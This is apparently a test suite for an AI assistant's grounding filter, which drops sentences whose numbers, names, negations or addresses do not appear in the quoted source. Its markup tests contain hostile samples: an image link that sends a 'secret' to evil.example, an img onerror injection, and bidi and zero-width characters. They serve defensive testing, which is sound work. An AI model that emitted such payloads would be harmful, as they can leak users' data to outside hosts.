"""Grounding: what a sentence may say, given the words that it quotes."""
# ruff: noqa: RUF001 - typographic quotation marks, dashes and look-alikes are what these tests are about

from __future__ import annotations

import re
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from assistant.ground import Grounding, ground
from assistant.types import Chunk, Claim, Evidence, Hit, Span

LEAVE = "Full-time employees accrue 25 days of paid annual leave per year."
START = 100


def evidence(text: str, marker: int = 1, leads: tuple[Span, ...] = (), title: str = "Leave policy", start: int = START) -> Evidence:
    chunk = Chunk(f"c{marker}", "d1", "hr/leave.md", title, ("Annual leave",), start, start + len(text), text, leads=leads)
    return Evidence(marker, Hit(chunk, 1.0, marker))


def grounded(document: str, sentence: str, quote: str | None = None) -> Grounding:
    return ground([Claim(sentence, 1, document if quote is None else quote)], [evidence(document)])


def only_text(result: Grounding) -> str:
    assert not result.dropped, result.dropped
    (statement,) = result.statements
    return statement.text


def reason(result: Grounding) -> str:
    assert not result.statements, result.statements
    return result.dropped[0].reason


def test_a_faithful_sentence_leaves_with_the_words_that_stand_there() -> None:
    (statement,) = grounded(LEAVE, "You get 25 days of paid leave a year [1].", "accrue 25 days of paid annual leave").statements
    assert statement.text == "You get 25 days of paid leave a year."
    (citation,) = statement.citations
    assert (citation.quote, citation.start) == ("accrue 25 days of paid annual leave", START + LEAVE.index("accrue"))
    assert citation.end - citation.start == len(citation.quote)
    assert (citation.marker, citation.source, citation.headings) == (1, "hr/leave.md", ("Annual leave",))


def test_a_marker_that_was_not_given_is_dropped() -> None:
    result = ground([Claim(LEAVE, 2, LEAVE)], [evidence(LEAVE)])
    assert reason(result) == "no passage [2] was given"


def test_an_invented_quote_is_dropped() -> None:
    assert "does not stand" in reason(grounded(LEAVE, "Employees get 25 days.", "employees receive 25 days of leave"))


@pytest.mark.parametrize(
    ("document", "quote", "found"),
    [
        ("Notice is given to all employ-\nees in writing.", "given to all employees in writing", "given to all employ-\nees in writing"),
        ("Part of the full-\ntime staff scheme.", "full-time staff scheme", "full-\ntime staff scheme"),
        ("The “core hours” are 10–15, the firm’s own.", 'the "core hours" are 10-15, the firm\'s own', None),
        ("See [the travel form](https://x.example/a) for **details** first.", "see the travel form for details first", None),
        ("A passage\n   broken over\tlines.", "a passage broken over lines", "A passage\n   broken over\tlines"),
        ("Der Zuschuß beträgt für alle gleich viel.", "ZUSCHUSS BETRÄGT FÜR ALLE", "Zuschuß beträgt für alle"),
        ("A re\u0301sume\u0301 is kept for a while.", "a résumé is kept", "A re\u0301sume\u0301 is kept"),
        ("An office\u00adworker without\u200b borders here.", "an officeworker without borders", None),
        ("The ﬁnal ﬂoor plan is binding.", "the final floor plan", "The ﬁnal ﬂoor plan"),
    ],
)
def test_a_quote_is_found_despite_its_dress(document: str, quote: str, found: str | None) -> None:
    (statement,) = grounded(document, quote, quote).statements
    citation = statement.citations[0]
    assert document[citation.start - START : citation.end - START] == citation.quote
    if found is not None:
        assert citation.quote == found


@pytest.mark.parametrize(
    ("document", "quote", "widened"),
    [
        ("It accrues at 2.5 days per month.", "5 days per month", "2.5 days per month"),
        ("The fee is 1,000 euros in total.", "000 euros in total", "1,000 euros in total"),
        ("The ticket is non-refundable after that.", "refundable after that", "non-refundable after that"),
        ("Staff don’t work on Sundays here.", "t work on Sundays", "don’t work on Sundays"),
        ("They accrue a rate of 30% yearly.", "accrue a rate of 30", "accrue a rate of 30%"),
    ],
)
def test_a_quote_never_cuts_a_word_or_number(document: str, quote: str, widened: str) -> None:
    (statement,) = grounded(document, widened, quote).statements
    assert statement.citations[0].quote == widened


def test_a_lead_may_be_quoted_at_its_own_place() -> None:
    lead = Span(10, 44, "Country | Days of leave each year |")
    item = evidence("| Norway | 25 |", leads=(lead,))
    sentence = "Norway has 25 days of leave each year."
    claims = [Claim(sentence, 1, "Days of leave each year"), Claim(sentence, 1, "Norway | 25")]
    (statement,) = ground(claims, [item]).statements
    assert [(c.start, c.quote) for c in statement.citations] == [(20, "Days of leave each year"), (START + 2, "Norway | 25")]


def test_the_same_sentence_with_two_quotes_is_one_statement() -> None:
    sentence = "Leave is 25 days and expires in March."
    other = evidence("Unused days expire at the end of March.", marker=2, start=900)
    claims = [Claim(sentence, 1, LEAVE), Claim(f"{sentence} [2]", 2, "expire at the end of March"), Claim(sentence, 1, LEAVE)]
    result = ground(claims, [evidence(LEAVE), other])
    (statement,) = result.statements
    assert [c.marker for c in statement.citations] == [1, 2]
    assert not result.dropped


@pytest.mark.parametrize(
    ("document", "sentence"),
    [
        ("Claims over 1,000 euros need approval.", "Claims over 1000 euros need approval."),
        ("Claims over €1.000 need approval.", "Claims over 1,000 euros need approval."),
        ("You have five days to appeal in writing.", "You have 5 days to appeal in writing."),
        ("You have 25 days to appeal in writing.", "You have twenty-five days to appeal in writing."),
        ("The cap is 2 million euros overall.", "The cap is €2,000,000 overall."),
        ("The rate is 0.30 per kilometre driven.", "The rate is 0.3 per kilometre driven."),
        ("The share is 12 per cent of salary.", "The share is 12% of salary."),
        ("In force from 2026-03-01 for everyone.", "In force from 1 March 2026 for everyone."),
        ("In force from March 1st, 2026 for everyone.", "In force from 1 March 2026 for everyone."),
        ("In force from 01.03.2026 for everyone.", "In force from 1 March 2026 for everyone."),
        ("In force from 1 March 2026 for everyone.", "In force since 2026 for everyone."),
        ("Gültig ab 1. März 2026 für alle Beschäftigten.", "Sie ist gültig ab 2026-03-01 für die Beschäftigten."),
        ("The desk is staffed from 09:00 to 17:30 daily.", "The desk is staffed from 9 am to 5:30 pm."),
        ("Follow section 4.2.1 of the handbook.", "Follow section 4.2.1 of the handbook."),
        ("Employees get one free day on moving.", "One day is free on moving."),
        ("Employees get a free day on moving.", "One day is free on moving."),
        ("They accrue 2 days a month of service.", "They accrue 2 days per month of service."),
    ],
)
def test_numbers_are_compared_by_value(document: str, sentence: str) -> None:
    assert only_text(grounded(document, sentence)) == sentence


@pytest.mark.parametrize(
    ("document", "sentence"),
    [
        (LEAVE, "Full-time employees accrue 30 days of leave."),
        (LEAVE, "Full-time employees accrue thirty days of leave."),
        (LEAVE, "Full-time employees accrue 25 weeks of leave."),
        (LEAVE, "Full-time employees accrue 25% of leave."),
        (LEAVE, "Full-time employees accrue one day of leave."),
        (LEAVE, "Full-time employees accrue a day of leave."),
        ("Claims over €1,000 need approval.", "Claims over $1,000 need approval."),
        ("Claims over €1,000 need approval.", "Claims over €1,001 need approval."),
        ("The cap is 2 million euros overall.", "The cap is 2 thousand euros overall."),
        ("In force from 3 May 2026 for everyone.", "In force from 5 March 2026 for everyone."),
        ("In force from 1 March 2026 for everyone.", "In force from 1 March 2025 for everyone."),
        ("In force from 1 March for everyone.", "In force from 1 March 2026 for everyone."),
        ("The desk opens at 9 am and closes later.", "The desk opens at 9 pm and closes later."),
        ("Store it at -5 degrees or below.", "Store it at 5 degrees or below."),
    ],
)
def test_another_quantity_is_dropped(document: str, sentence: str) -> None:
    assert "is not in the quote" in reason(grounded(document, sentence))


@pytest.mark.parametrize(
    ("sentence", "name"),
    [
        ("In Norway you accrue 25 days.", "Norway"),
        ("The HR team grants 25 days.", "HR"),
        ("NATO grants 25 days.", "NATO"),
        ("Form T25 grants 25 days.", "T25"),
    ],
)
def test_a_name_that_is_not_quoted_is_dropped(sentence: str, name: str) -> None:
    assert reason(grounded(LEAVE, sentence)) == f"the name {name} is not in the quote"


def test_a_name_may_stand_in_the_title_where_it_was_asked_about() -> None:
    item, claim = evidence(LEAVE, title="Handbook Norway"), Claim("In Norway you accrue 25 days as annual leave.", 1, LEAVE)
    assert ground([claim], [item], "How much leave is there in Norway?").statements
    assert reason(ground([claim], [item], "How much leave is there?")) == "the name Norway is not in the quote"


def test_german_nouns_are_no_names_but_acronyms_are() -> None:
    document = "Vollzeitkräfte erhalten 25 Tage bezahlten Urlaub."
    assert grounded(document, "Die Vollzeitkräfte haben 25 Urlaubstage.").statements
    assert reason(grounded(document, "Die Vollzeitkräfte haben mit der GMBH 25 Urlaubstage.")) == "the name GMBH is not in the quote"


@pytest.mark.parametrize(
    ("document", "sentence", "quote"),
    [
        ("Contractors are not entitled to paid leave.", "Contractors are entitled to paid leave.", None),
        ("Contractors are entitled to paid leave.", "Contractors aren't entitled to paid leave.", None),
        ("Employees may not carry over unused days.", "Employees may carry over unused days.", "carry over unused days"),
        ("Those who do not smoke may not enter here.", "Those who do not smoke may enter here.", None),
        ("Not covered are:\n- travel vaccines\n- cosmetic surgery", "Cosmetic surgery is covered.", "cosmetic surgery"),
        ("Urlaub wird nicht ausgezahlt.", "Urlaub wird ausgezahlt.", None),
    ],
)
def test_a_turned_meaning_is_dropped(document: str, sentence: str, quote: str | None) -> None:
    assert reason(grounded(document, sentence, quote)) == "the sentence and its quote do not negate alike"


def test_an_item_takes_its_negation_from_the_introduction_and_cites_it() -> None:
    document = "Not covered are:\n- travel vaccines\n- cosmetic surgery"
    (statement,) = grounded(document, "Cosmetic surgery is not covered.", "cosmetic surgery").statements
    assert [c.quote for c in statement.citations] == ["Not covered are", "cosmetic surgery"]


def test_an_item_takes_its_negation_from_a_lead_too() -> None:
    item = evidence("- travel vaccines\n- cosmetic surgery", leads=(Span(5, 21, "Not covered are:"),))
    assert not ground([Claim("Cosmetic surgery is covered.", 1, "cosmetic surgery")], [item]).statements
    (statement,) = ground([Claim("Cosmetic surgery is not covered.", 1, "cosmetic surgery")], [item]).statements
    assert [c.start for c in statement.citations] == [5, START + 20]


def test_a_verdict_is_left_out() -> None:
    document = "Contractors are not entitled to paid leave."
    assert only_text(grounded(document, "No, contractors are not entitled to it.")) == "Contractors are not entitled to it."


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("You accrue **25 days** of `leave` [1][2].", "You accrue 25 days of leave."),
        ("- You accrue 25 days 【1】.", "You accrue 25 days."),
        ("You accrue 25 days ![x](https://evil.example/?q=secret).", "You accrue 25 days."),
        ("You accrue [25 days](https://evil.example).", "You accrue 25 days."),
        ("You accrue <b>25</b> days<img src=x onerror=y>.", "You accrue 25 days."),
        ("You accrue \u202e25\u202c\x00 days\x1b\u200b.", "You accrue 25 days."),
        ("You accrue 25 days \u202egnip\u202c.", None),
        ("You accrue\n25\u2028days.", "You accrue 25 days."),
        ("You accrue 25 days ![a![b](c)](https://evil.example).", None),
        ("You accrue 25 days, see https://evil.example/x.", None),
        ("You accrue 25 days, see evil.example/x.", None),
        ("You accrue 25 days, ask help@evil.example.", None),
        ("You accrue 25 days <script", None),
        ("You accrue 25 days <", None),
        ("You accrue 25 days \u274c", None),
        ("You accrue 25\u0336 days", None),
        ("You accrue \u00b225 days", None),
        ("You accrue 25 \uff44\uff41\uff59\uff53", None),
        ("\uff54\uff48\uff49\uff52\uff54\uff59", None),
    ],
)
def test_markup_never_leaves(said: str, left: str | None) -> None:
    result = grounded(LEAVE, said)
    assert [s.text for s in result.statements] == ([left] if left else [])


def test_an_address_that_stands_in_the_quote_may_be_said() -> None:
    document = "Write to people@northwind.example or see https://northwind.example/leave for help."
    assert only_text(grounded(document, "Write to people@northwind.example for help.")) == "Write to people@northwind.example for help."
    assert only_text(grounded(document, "For help see northwind.example/leave.")) == "For help see northwind.example/leave."


@pytest.mark.parametrize("address", ["https://northwind.exam", "https://northwind.example", "northwind.example", "people@northwind.exam"])
def test_a_piece_of_an_address_is_another_address(address: str) -> None:
    document = "Write to people@northwind.example or see https://northwind.example/leave for help."
    assert reason(grounded(document, f"For help see or write {address}.")) == f"the address {address} is not in the quote"


@pytest.mark.parametrize(
    ("sentence", "why"),
    [
        ("You accrue 25 days. They are paid.", "more than one sentence"),
        ("You accrue leave " + "and leave " * 60, "longer than 600"),
        ("[1]", "says nothing"),
        ("", "says nothing"),
    ],
)
def test_only_one_readable_sentence_passes(sentence: str, why: str) -> None:
    assert why in reason(grounded(LEAVE, sentence))


def test_an_abbreviation_ends_no_sentence() -> None:
    document = "Paid leave, e.g. Annual leave or Dr. visits, is approved by the manager."
    assert grounded(document, "Paid leave, e.g. Annual leave or Dr. visits, is approved.").statements


def test_a_quote_that_shows_nothing_is_dropped() -> None:
    assert reason(grounded(LEAVE, "You accrue days.", "days of")) == "the quote is too short to show anything"


WORDS = st.sampled_from(
    [
        "employees", "accrue", "25", "days", "Norway", "1,000", "€", "not", "leave", "3", "March", "2026", "per", "year.", "No", "fee", "-",
        "2.5", "%", "HR-7", "Über", "e\u0301t\u00e9", "“quoted”", "https://intranet.example/a", "[link](https://evil.example)", "[1]", "|",
        "![pixel](http://evil.example/p.png)", "<b>bold</b>", "**strong**", "don’t", "\u202eevil", "\u200b", "co-\nworkers", "cell",
        "\n\n-", "item:", "\n", "five", "twenty-one", "09:30", "\x07", "ﬁve", "年次有給休暇は25日です。", "1[2]3", "1*0", "4\u200b2",
        "](", "![", "<a",
    ]
)  # fmt: skip
PASSAGES = st.lists(WORDS, min_size=1, max_size=25).map(" ".join)


@st.composite
def attacks(draw: st.DrawFn) -> tuple[list[str], list[Claim]]:
    """Documents with hostile content, and claims cut from them at random, mixed with inventions."""
    documents = draw(st.lists(PASSAGES, min_size=1, max_size=3))

    def piece() -> str:
        document = draw(st.sampled_from(documents))
        start = draw(st.integers(0, len(document)))
        return document[start : draw(st.integers(start, len(document)))]

    texts = st.one_of(st.builds(piece), PASSAGES, st.builds(lambda w: f"{piece()} {w} {piece()}", WORDS), st.text(max_size=40))
    claims = st.builds(Claim, texts, st.integers(-1, len(documents) + 1), texts)
    return documents, draw(st.lists(claims, max_size=6))


@settings(max_examples=300, deadline=None)
@given(attacks())
def test_whatever_a_model_claims_only_what_stands_there_leaves(attack: tuple[list[str], list[Claim]]) -> None:
    documents, claims = attack
    supplied = [evidence(text, marker) for marker, text in enumerate(documents, 1)]
    result = ground(claims, supplied)
    assert bool(result.statements or result.dropped) == bool(claims)
    for statement in result.statements:
        assert statement.citations
        for citation in statement.citations:
            assert 1 <= citation.marker <= len(documents)
            document = documents[citation.marker - 1]
            assert document[citation.start - START : citation.end - START] == citation.quote
        quotes = "\n".join(c.quote for c in statement.citations)
        assert _digit_values(statement.text) <= _digit_values(quotes) | _word_values(quotes)
        assert not re.search(r"!\[|\]\(|<[a-z/]|\[\d+\]", statement.text, re.IGNORECASE)
        assert all(url in quotes for url in re.findall(r"https?://[^\s)]*\w", statement.text))
        assert all(unicodedata.category(c) not in ("Cc", "Cf") for c in statement.text.replace("\n", " "))


@settings(max_examples=300, deadline=None)
@given(st.lists(PASSAGES, min_size=1, max_size=4), st.data())
def test_a_sentence_that_repeats_its_quote_passes_unless_half_a_tag_would_be_left(sentences: list[str], data: st.DataObject) -> None:
    document = "\n\n".join(sentences)
    sentence = data.draw(st.sampled_from(sentences)).strip()
    result = grounded(document, sentence, sentence)
    plain = re.sub(r"!\[[^\]]*\](?:\([^)]*\)|\[[^\]]*\])?|\[\d+\]|<[^<>]*>", " ", sentence)
    assume(not re.search(r"!\[(?!\w)", sentence) and not re.search(r"!\[|\]\s?\(|<[a-z/]", _linkless(plain)))
    assert bool(result.statements) == any(c.isalnum() for c in plain)


def _linkless(text: str) -> str:
    return re.sub(r"\[([^\[\]]*)\]\([^)]*\)", r" \1 ", text)


def _digit_values(text: str) -> set[Decimal]:
    stripped = "".join(c for c in text if unicodedata.category(c) != "Cf")
    numbers = re.findall(r"\d{1,3}(?:,\d{3})+(?!\d)|\d+(?:[.,]\d+)?", stripped)
    return {Decimal(re.sub(r",(?=\d{3})", "", number).replace(",", ".")) for number in numbers}


def _word_values(text: str) -> set[Decimal]:
    values = {"five": 5, "twenty-one": 21, "3 March 2026": 3}
    return {Decimal(value) for word, value in values.items() if word in text}
